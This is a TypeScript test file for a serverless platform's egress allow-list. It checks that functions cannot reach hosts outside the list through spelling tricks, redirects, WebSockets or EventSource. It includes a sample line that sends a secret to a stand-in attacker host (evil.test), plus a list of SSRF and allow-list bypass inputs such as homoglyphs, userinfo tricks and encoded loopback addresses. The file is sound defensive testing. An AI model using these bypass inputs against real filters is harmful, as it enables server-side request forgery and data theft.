/** The list of allowed hosts: a function finds no spelling, redirect or protocol around it. */
import assert from "node:assert/strict";
import { AllowedHosts } from "@imprun/contracts/allowed-hosts";
import { DEFAULT_LIMITS } from "@imprun/contracts/limits";
import { until } from "@imprun/testing/until";
import { Egress } from "../broker/egress/egress.ts";
import type { TestCell } from "../testing/cell.ts";
import { withCell } from "../testing/with-cell.ts";

const FUNCTIONS = {
  call: `export default async (request) => {
    const [url, init] = await request.json();
    try {
      const response = await fetch(url, init);
      return new Response("got " + response.status + " " + await response.text());
    } catch (error) { return new Response([error.cause?.code, error.message].join(" ")); }
  }`,
  socket: `export default async (request) => {
    const socket = new WebSocket(await request.text());
    return new Response(await new Promise((done) => {
      socket.onopen = () => done("open");
      socket.onclose = ({ code, reason }) => done([code, reason].join(" "));
    }));
  }`,
  events: `export default async (request) => {
    const source = new EventSource(await request.text());
    return new Response(await new Promise((done) => {
      source.onopen = () => done("open");
      source.onerror = () => { source.close(); done("refused"); };
    }));
  }`,
  uncaught: `export default async () => await fetch("http://evil.test/key?secret=1")`,
  later: `export default () => {
    setTimeout(() => fetch("http://later.test/").catch(() => {}), 1);
    return new Response("answered");
  }`,
};

/** Addresses of hosts that are not on the list, each of which comes near to one that is. */
const OTHERS = [
  "http://evil.test",
  "http://evil-api.test",
  "http://api.test.evil.test",
  "http://api.test.evil.test.",
  "http://api.test..",
  "http://b.api.test",
  "http://wild.test",
  "http://evilwild.test",
  "http://.wild.test",
  "http://a.wild.test.evil.test",
  "http://аpi.test",
  "http://api。test。evil。test",
  "http://evil.test\\@api.test",
  "http://evil.test/@api.test",
  "http://evil.test#@api.test",
  "http://evil.test?api.test",
  "http://127.0.0.2",
  "http://2130706433",
  "http://0x7f.1",
  "http://[::1]",
  "http://[::ffff:127.0.0.1]",
];

withCell("a function reaches no host that is not allowed", async (t, cell) => {
  const heard: Request[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
    heard.push(request);
    const location = new URL(request.url).searchParams.get("to");
    if (location !== null) return new Response(null, { status: 307, headers: { location } });
    if (request.headers.get("upgrade") === "websocket") {
      return Deno.upgradeWebSocket(request).response;
    }
    return new Response("hello", { headers: { "content-type": "text/event-stream" } });
  });
  const { port } = server.addr;
  const lookedUp: string[] = [];
  const egress = new Egress({
    allowLoopback: true,
    lookup: (name) => {
      lookedUp.push(name);
      return Promise.resolve([name === "private.test" ? "10.0.0.1" : "127.0.0.1"]);
    },
  });
  hold(cell, egress);
  const allowed = [
    "api.test",
    "*.wild.test",
    "private.test",
    `port.test:${port}`,
    "bücher.test",
    "10.0.0.2",
  ];
  await cell.deploy("out", FUNCTIONS, 1, { allowedHosts: AllowedHosts.parse(allowed)! });
  const post = async (name: string, body: string) =>
    await (await cell.fetch("out", `/${name}`, { method: "POST", body })).text();
  const call = (url: string, init = {}) => post("call", JSON.stringify([url, init]));
  const refusal = (host: string) =>
    `host_not_allowed fetch failed: ${host} is not among the allowed hosts of this environment`;
  const withPort = (address: string) => {
    const url = new URL(address);
    url.port = String(port);
    return url;
  };

  for (const address of OTHERS) {
    await t.step(`${address} is refused`, async () => {
      const { host } = withPort(address);
      const [, before, after] = /^(http:\/\/(?:\[[^\]]*\]|[^/\\#?]+))(.*)$/.exec(address)!;
      assert.equal(await call(`${before}:${port}${after}`), refusal(host));
    });
  }
  await t.step("a user before the host is none of the host, and no URL", async () => {
    assert.match(
      await call(`http://api.test@evil.test:${port}/`),
      /credentials/,
    );
  });
  await t.step("a header cannot name an allowed host for another", async () => {
    const headers = { host: `api.test:${port}` };
    assert.equal(
      await call(`http://evil.test:${port}/`, { headers }),
      refusal(`evil.test:${port}`),
    );
  });
  await t.step("another port than the entry's is refused", async () => {
    assert.equal(await call("http://port.test/"), refusal("port.test"));
    assert.equal(await call("https://port.test/"), refusal("port.test"));
  });
  await t.step("WebSockets are held to it", async () => {
    for (const address of [`ws://evil.test:${port}`, `ws://wild.test:${port}`]) {
      assert.match(await post("socket", address), /^1006 .* is not among the allowed hosts/);
    }
  });
  await t.step("EventSource is held to it", async () => {
    assert.equal(await post("events", `http://evil.test:${port}/`), "refused");
  });
  await t.step("no name of them was resolved, and no server asked", () => {
    assert.deepEqual(lookedUp, []);
    assert.equal(heard.length, 0);
  });

  for (
    const address of [
      "http://api.test",
      "http://API.TEST.",
      "http://a.wild.test",
      "http://a.b.WILD.test",
      "http://port.test",
      "http://BÜCHER.test",
      "http://xn--bcher-kva.test",
    ]
  ) {
    await t.step(`${address} is reached`, async () => {
      assert.equal(await call(`${address}:${port}/`), "got 200 hello");
    });
  }
  await t.step("by WebSockets and EventSource too", async () => {
    assert.equal(await post("socket", `ws://a.wild.test:${port}`), "open");
    assert.equal(await post("events", `http://api.test:${port}/`), "open");
  });
  await t.step("what leads to a private address stays refused", async () => {
    assert.match(await call(`http://private.test:${port}/`), /^forbidden .* private$/);
    assert.match(await call(`http://10.0.0.2:${port}/`), /^forbidden .* private$/);
  });

  const redirect = (to: string, init = {}) =>
    call(`http://api.test:${port}/?to=${encodeURIComponent(to)}`, init);
  for (const to of ["//evil.test", "http://evil.test", "http://user@evil.test", "http://[::1]"]) {
    await t.step(`a redirect to ${to} is not followed`, async () => {
      const before = heard.length;
      const answer = await redirect(`${to}:${port}/`);
      assert.match(answer, /^host_not_allowed .*(evil\.test|\[::1\]):|^unavailable .* to no URL$/);
      assert.equal(heard.length, before + 1);
    });
  }
  await t.step("nor is one at the second hop", async () => {
    const hop = `http://a.wild.test:${port}/?to=${encodeURIComponent(`http://evil.test:${port}/`)}`;
    assert.equal(await redirect(hop), refusal(`evil.test:${port}`));
  });
  await t.step("nor is one of a WebSocket", async () => {
    const before = heard.length;
    const answer = await post("socket", `ws://api.test:${port}/?to=ws://evil.test:${port}/`);
    assert.match(answer, /^1006 /);
    assert.equal(heard.length, before + 1);
  });
  await t.step("one among allowed hosts is followed, or left to the function", async () => {
    assert.equal(await redirect(`http://a.wild.test:${port}/`), "got 200 hello");
    assert.equal(await redirect("http://evil.test/", { redirect: "manual" }), "got 307 ");
  });

  await t.step("who does not catch it answers its code, and the host is in the log", async () => {
    await cell.deploy("bare", { uncaught: FUNCTIONS.uncaught }, 1, { allowedHosts: ["api.test"] });
    const response = await cell.fetch("bare", "/uncaught");
    const text = await response.text();
    assert.equal(response.status, 500);
    const { code, requestId } = JSON.parse(text);
    assert.equal(code, "host_not_allowed");
    assert.ok(!text.includes("evil.test"), text);
    const { data, message } = await lineOf(cell, "uncaught", requestId);
    const reason = "host_not_allowed";
    assert.deepEqual(data, { event: "limited", revision: 1, reason, host: "evil.test" });
    assert.equal(message, "The function may not reach this host: host_not_allowed, evil.test");
  });
  egress.stop();
  await server.shutdown();
});

withCell("a host that is refused without a request is logged and counted too", async (_t, cell) => {
  const egress = new Egress({ lookup: () => Promise.resolve([]) });
  hold(cell, egress);
  await cell.deploy("out", { later: FUNCTIONS.later }, 1, { allowedHosts: [] });
  assert.equal(await (await cell.fetch("out", "/later")).text(), "answered");
  const { data } = await cell.broker.logged(({ data }) => data.reason === "host_not_allowed");
  assert.equal(data.host, "later.test");
  const counted = await until(() =>
    Promise.resolve(
      cell.broker.counts.flatMap(({ limits }) => limits)
        .find(({ code }) => code === "host_not_allowed"),
    )
  );
  assert.deepEqual(counted, { tenantId: "out.dev", code: "host_not_allowed", count: 1 });
  egress.stop();
});

/** The way out holds each tenant to what its deployment allows, as the broker's does. */
function hold({ broker }: TestCell, egress: Egress): void {
  broker.answers.fetch = (message, request) => {
    const allowedHosts = broker.tenants.get(message.tenantId)!.allowedHosts!;
    return egress.fetch(message, request, { ...DEFAULT_LIMITS, allowedHosts });
  };
}

function lineOf(cell: TestCell, functionName: string, requestId: string) {
  return cell.broker.logged((entry) =>
    entry.function === functionName && entry.requestId === requestId &&
    entry.data.reason === "host_not_allowed"
  );
}
